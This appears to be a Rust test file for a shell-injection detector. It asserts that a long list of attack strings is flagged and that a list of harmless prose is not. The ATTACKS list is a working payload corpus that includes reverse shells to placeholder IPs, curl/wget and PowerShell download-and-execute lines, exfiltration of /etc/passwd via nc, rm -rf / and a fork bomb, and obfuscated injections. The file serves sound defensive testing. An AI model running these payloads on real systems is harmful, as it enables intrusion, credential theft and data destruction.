//! Shell commands: where they are found, and where not.

use wardkit_validation::{Policy, Sink};

#[test]
fn a_word_that_goes_on_in_the_next_line_is_judged_and_no_end() {
    for sink in [None, Some(Sink::Shell)] {
        let policy = sink.map_or_else(Policy::default, Policy::for_sink);
        assert!(policy.check("\"*;if<>)theninend)(\u{2028}.sleep(\n\\\nsleep\"").is_ok());
        assert!(policy.check("x; slee\\\np").is_ok());
    }
}

#[test]
fn commands_are_found_wherever_a_shell_would_start_them() {
    for text in ATTACKS {
        assert!(is_attack(text), "{text:?}");
    }
}

#[test]
fn prose_about_commands_is_no_command() {
    for text in PLAIN {
        assert!(!is_attack(text), "{text:?}");
    }
}

#[test]
fn hidden_names_are_rejected_and_spans_point_at_them() {
    let verdict = Policy::for_sink(Sink::Shell).check("see: ;w'h'o'am'i now").unwrap();
    let finding = &verdict.findings()[0];
    assert_eq!(finding.rule.id, "shell.hidden-command");
    assert_eq!(finding.span, 5..16);
    assert_eq!(verdict.level(), wardkit_validation::Level::Reject);
}

#[test]
fn a_command_line_alone_does_not_alarm_in_a_message() {
    let message = |text| Policy::default().check(text).unwrap().findings().is_empty();
    assert!(message("sort -n names.txt"));
    assert!(message("what does `sort -n` do with the rest of it?"));
    assert!(!message("10.0.0.1; cat /etc/hosts"));
    assert!(!message("x$(whoami)"));
}

proptest::proptest! {
    #[test]
    fn whatever_the_pieces_spans_are_whole_characters(pieces in proptest::collection::vec(0..PIECES.len(), 0..40)) {
        let text: String = pieces.into_iter().map(|at| PIECES[at]).collect();
        for sink in [Sink::Shell, Sink::Code, Sink::Template] {
            let verdict = Policy::for_sink(sink).check(&text).unwrap();
            for finding in verdict.findings() {
                assert!(text.get(finding.span.clone()).is_some(), "{text:?} {finding:?}");
            }
        }
    }
}

/// What the tokenizers cut texts at, and letters of several bytes between.
const PIECES: &[&str] = &[
    ";",
    "|",
    "&",
    "`",
    "$(",
    "${",
    "}",
    ")",
    "(",
    "{",
    "{{",
    "}}",
    "<%",
    "%>",
    "'",
    "\"",
    "\\",
    " ",
    "\n",
    "é",
    "雪",
    "cat",
    "id",
    "/",
    "?",
    "*",
    "$'\\x",
    "$IFS",
    "<",
    ">",
    "() {",
    "%",
    "=",
    "-",
    "-c",
    "system",
    "php://",
    "O:8:",
    "$_GET",
    "[[",
    "#",
    "@",
    "*{",
    "if ",
    "for ",
    "cmd",
    "constructor",
    "__class__",
    "rO0AB",
    "7*7",
    ".",
    "\u{0}",
    "java.lang.",
    "powershell",
    ":~",
    "http://",
    "curl",
];

fn is_attack(text: &str) -> bool {
    let verdict = Policy::for_sink(Sink::Shell).check(text).unwrap();
    verdict
        .findings()
        .iter()
        .any(|finding| PREFIXES.iter().any(|prefix| finding.rule.id.starts_with(prefix)))
}

/// Other detectors look at the same texts; these tests are about one.
const PREFIXES: &[&str] = &["shell.", "code."];

const ATTACKS: &[&str] = &[
    "| echo abc",
    "&& echo 7",
    "a;usleep 9",
    "a; tar czf x y",
    "a; killall x",
    "a; aws sts x",
    "; ps aux",
    "$(curl a.longlabel)",
    "`expr 3 + 9`",
    "$(tr a b)",
    ":(){ :|:& };:",
    "mkfs.ext4 /dev/sdz9",
    "su root",
    "echo 'k' >> ~/.ssh/authorized_keys",
    "grep root /etc/group",
    "tar cf - /home/x",
    "--upload-pack=touch x",
    "-oProxyCommand=touch",
    "--checkpoint-action=exec=x",
    "$HOME",
    "${IFS}",
    "</etc/hosts",
    "\\nid",
    "\\n/bin/ls -al\\n",
    "|calc.exe",
    "%USERPROFILE%",
    "[System.Diagnostics.Process]::Start('x')",
    ";seq 9",
    ";ls -la",
    "; ls",
    "|id",
    "||id",
    "&&id",
    "&id",
    "`id`",
    "$(id)",
    ";id;",
    ";id #",
    "%0Aid",
    "%0a/bin/cat%20/etc/passwd",
    "a;id|",
    "|/usr/bin/id|",
    "\nid\n",
    "<(id)",
    ">(id)",
    "cat$IFS/etc/passwd",
    "cat${IFS}/etc/passwd",
    "{cat,/etc/passwd}",
    "cat</etc/passwd",
    "X=$'cat\\x20/etc/passwd'&&$X",
    "who``ami",
    "w\"h\"o\"a\"m\"i",
    "w\\ho\\am\\i",
    "/\\b\\i\\n/\\s\\h",
    "who$@ami",
    "who$()ami",
    "/???/??t /???/p??s??",
    "/???/?at /etc/passwd",
    "/usr/bin/wh?ami",
    "${PATH:0:1}bin${PATH:0:1}ls",
    "cat ${HOME:0:1}etc${HOME:0:1}passwd",
    "$(rev<<<'imaohw')",
    "echo 'dwssap/cte/ tac' | rev | sh",
    "$(tr '!-0' '\"-1'<<<.)",
    "bash<<<$(base64 -d<<<Y2F0IC9ldGMvcGFzc3dk)",
    "echo Y2F0IC9ldGMvcGFzc3dkCg== | base64 -d | bash",
    "a=l;b=s;$a$b",
    "a=wh;b=oami;$a$b",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "nc -e /bin/sh 10.0.0.1 4444",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
    "python -c 'import socket,subprocess,os;s=socket.socket()'",
    "perl -e 'use Socket;$i=\"10.0.0.1\"'",
    "php -r '$sock=fsockopen(\"10.0.0.1\",1234);'",
    "() { :;}; /bin/bash -c \"id\"",
    "() { ignored; }; echo x",
    "<!--#exec cmd=\"ls\" -->",
    "<!--#include virtual=\"/etc/passwd\"-->",
    "& ping -c 10 127.0.0.1 &",
    "|| ping -i 30 127.0.0.1 ; x || ping -n 30 127.0.0.1 &",
    "; sleep 10",
    "| sleep 10",
    "$(sleep 10)",
    "`sleep 10`",
    "; nslookup test.example.com",
    "& whoami",
    "| net user",
    "& dir C:\\",
    "| type C:\\boot.ini",
    "p^i^n^g 127.0.0.1",
    "cmd /c whoami",
    "cmd.exe /c \"dir\"",
    "%COMSPEC% /c dir",
    "powershell -enc SQBFAFgA",
    "powershell.exe -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://a.b/c')\"",
    "Get-Process",
    "Invoke-Expression \"dir\"",
    "Start-Process calc.exe",
    "certutil -urlcache -split -f http://x.y/z.exe z.exe",
    "bitsadmin /transfer n http://x.y/z.exe c:\\z.exe",
    "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"",
    "regsvr32 /s /n /u /i:http://x/y.sct scrobj.dll",
    "for /L %i in (1,1,10) do @ping -n 1 127.0.0.1",
    "if exist C:\\Windows dir",
    "ping%CommonProgramFiles:~10,-18%127.0.0.1",
    "'; wget http://a.b/c.sh -O- | sh; '",
    "\";curl http://a.b/`whoami`",
    "1;phpinfo()",
    ";system('cat%20/etc/passwd')",
    "|cat /etc/shadow",
    "a); id",
    "a|ls -l",
    "a\"; cat /etc/hosts; \"",
    "x' || cat /etc/passwd || 'x",
    "foo.txt; rm -rf /",
    "127.0.0.1|whoami",
    "127.0.0.1 && dir",
    "127.0.0.1%0aid",
    "ip=127.0.0.1;cat flag.txt",
    "test;uname -a",
    "test | uname -a",
    "awk 'BEGIN {system(\"/bin/sh\")}'",
    "find / -perm -4000 -type f 2>/dev/null",
    "find . -exec /bin/sh \\; -quit",
    "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh",
    "vim -c ':!/bin/sh'",
    "less /etc/profile",
    "sudo -l",
    "cat /etc/passwd",
    "/bin/cat /etc/passwd",
    "/etc/passwd;id",
    "wget http://example.com/shell.sh",
    "curl -s http://example.com/x | bash",
    "chmod 777 /tmp/x",
    "chown root file",
    "uname -a",
    "ifconfig",
    "netstat -antp",
    "ls",
    "echo $(id)",
    "echo `id`",
    "touch /tmp/pwned",
    "kill -9 1",
    "gcc -wrapper /bin/sh,-s .",
    "docker run -v /:/mnt alpine",
    "kubectl get secrets",
    "mysql -u root -e '\\! id'",
    "ssh user@host",
    "scp x user@host:/tmp",
    "crontab -e",
    "alias ls='rm -rf /'",
    "history | grep pass",
    "!-1",
    "IFS=,;`cat<<<uname,-a`",
    "0<&196;exec 196<>/dev/tcp/10.0.0.1/80; sh <&196 >&196 2>&196",
    "exec 5<>/dev/tcp/1.2.3.4/80",
    "socat exec:'bash -li' tcp:10.0.0.1:4444",
    "telnet 10.0.0.1 80 | /bin/sh",
    "lua -e \"os.execute('/bin/sh')\"",
    "node -e \"require('child_process').exec('id')\"",
    "c:\\windows\\system32\\cmd.exe /c dir",
    "..\\..\\windows\\system32\\cmd.exe",
    "wmic process list",
    "tasklist /v",
    "net localgroup administrators",
    "reg query HKLM\\Software",
    "schtasks /create /tn x /tr calc.exe",
    "; /bin/ls -al",
    ";/usr/bin/id;",
    "$;/usr/bin/id",
    "() { _; } >_[$($())] { echo hi; }",
    "\n/bin/ls -al\n",
    "<?php system(\"id\");?>",
    "eval('ls')",
    "exec('ls')",
    "`ping -c 3 a.b`",
    "$(`cat /etc/passwd`)",
    "cat /etc/passwd | nc 10.0.0.1 80",
    "1 & ls",
    "1;cat${IFS}/e*/p*",
    "() { :; }; echo; /usr/bin/id",
    "%26%20whoami",
    "%7C%20id",
    "&lt;!--#exec%20cmd=&quot;/bin/cat%20/etc/passwd&quot;--&gt;",
    "`/usr/bin/id`",
    "'`id`'",
    "\"$(id)\"",
    ";echo 1234|md5sum",
    "&echo abc123&",
    "||echo test||",
    "; exec 3<>/dev/udp/1.1.1.1/53",
    "tail -f /var/log/auth.log",
    "xxd /etc/shadow",
    "strings /etc/passwd",
    "base64 /etc/passwd",
    "nl /etc/passwd",
    "head -n 1 /etc/passwd",
    "sed -n p /etc/passwd",
    "od -c file",
];

const PLAIN: &[&str] = &[
    "Name | Date | Time",
    "dig deeper",
    "$HOME is where the heart is",
    "50%CD or 40%",
    "a line\\nand another",
    "well-oiled -o-",
    "grep finds the root of it in /etc/group",
    "drive c: is full, and d: as well",
    "cost $(total) of it",
    "find all directories in the current directory",
    "Search for *.log files under /var/log and delete them",
    "Copy the file /etc/hosts to /tmp and print it",
    "what does `cat` do?",
    "I ran `make install` and it failed, why?",
    "bring bread; cut it in slices",
    "rock & roll",
    "C++ & python",
    "tea|coffee|water",
    "Terms & date",
    "| id | name | date |\n| -- | ---- | ---- |",
    "let f = values.iter().map(|id| id.sort());",
    "if (a && b || c) { print(x); }",
    "{\"id\": 3, \"cat\": 4}",
    "https://shop.example/?sort=up&id=5&cat=7",
    "R&D; AT&T",
    "Tom &amp; Jerry; &lt;cat&gt;",
    "who am i",
    "more or less",
    "time to sleep",
    "kill the lights at 9",
    "the host is down; who knows why",
    "Mozilla/5.0 (X11; Linux x86_64; rv:1.0) Gecko",
    "{ id, name } = row;",
    "#include <find.h>",
    "see you at 5; date still open",
    "a <b> c > d",
    "su padre & su madre",
    "git is great & docker too",
    "use sed, awk and grep",
    "x = a > b ? c : d;",
    "date",
    "mail me!",
    "less is more",
    "500 & 600",
    "well-known start-up",
    "get-together on Monday",
    "5 > 3 && 2 < 4",
    "The following `id` and `set` are names; `cat` is not",
    "Ticket #12: set-up of \"net user\" is unclear to me",
];
